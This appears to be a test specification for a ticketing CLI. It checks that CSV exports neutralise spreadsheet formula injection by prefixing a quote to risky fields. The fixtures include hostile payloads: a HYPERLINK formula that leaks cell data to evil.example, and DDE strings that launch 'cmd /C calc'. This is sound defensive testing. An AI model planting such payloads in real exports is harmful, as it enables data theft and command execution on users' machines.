CSV formula injection (issue 25 §7): free text from outside — an outlet's or
engineer's name, a region, a customer, a void reason, a cost note — that
starts with = + - @ (or TAB, CR) is written to --format csv with a leading '
so that a spreadsheet shows it as text instead of running it; numbers
(-120.00) are left alone; --csv-raw or SVC_CSV_RAW=1 give the stored text for
machine pipelines, and JSON is never altered.

### file log.csv
ts,ticket,event,type,urgency,region,outlet,customer,engineer,note
2026-11-02 08:00,T1,created,repair,normal,@R,SH-01,"=HYPERLINK(""http://evil.example/?d=""&A1,""发票"")",,+cmd|' /C calc'!A0
2026-11-02 09:00,T1,dispatched,,,,,,E-1,
2026-11-02 10:00,T2,created,repair,normal,华东,SH-01,-2+3,,@SUM(1+1)

### run svc init -q && svc outlet add SH-01 --name '=1+1' --region 华东 -q && svc engineer add E-1 --name '@SUM(A1:A9)' --outlet SH-01 -q && svc outlet list --format csv | tr -d '\r' && svc engineer list --format csv | tr -d '\r' | cut -d, -f1-3
# master data: an outlet and an engineer named like formulas
### stdout
id,name,region,city,address,phone,active
SH-01,'=1+1,华东,,,,yes
id,name,outlet
E-1,'@SUM(A1:A9),SH-01

### run svc import -q log.csv > /dev/null && svc audit sla --all --format csv | tr -d '\r' | cut -d, -f1-6
# the SLA audit's streamed CSV: the region @R
### stdout
ticket,outlet,region,rule,status,response
T1,SH-01,'@R,standard,late,breached
T2,SH-01,华东,standard,late,breached

### run svc cost add --ticket T1 --kind travel --amount 20 --date 2026-11-02 --note '-2+3 (from the phone)' -q > /dev/null && svc cost add --ticket T2 --kind compensation --amount 120 --date 2026-11-02 --note '=1+1' -q > /dev/null && svc cost list --format csv | tr -d '\r' | cut -d, -f2-
# cost notes; amounts stay numbers
### stdout
ticket,kind,amount,date,note
T1,travel,20.00,2026-11-02,'-2+3 (from the phone)
T2,compensation,120.00,2026-11-02,'=1+1

### run svc ticket void T1 "$(sqlite3 svc.db "SELECT id FROM events WHERE event = 'dispatched'")" --reason '@cmd /C calc' --user wang -q && svc audit corrections --format csv | tr -d '\r' | cut -d, -f5-
# a void reason
### stdout
outlet,withdrawn,event,by,reason,effect
SH-01,09f75efbdf7927fc1cf28104a6d901e8,dispatched,wang,'@cmd /C calc,dispatched withdrawn: no figure changed

### run svc --csv-raw outlet list --format csv | tr -d '\r' | cut -d, -f1,2 && SVC_CSV_RAW=1 svc engineer list --format csv | tr -d '\r' | cut -d, -f1,2 && svc outlet list --format json | grep -o '"name":"[^"]*"'
# raw for a machine pipeline, by option or environment; JSON never altered
### stdout
id,name
SH-01,=1+1
id,name
E-1,@SUM(A1:A9)
"name":"=1+1"
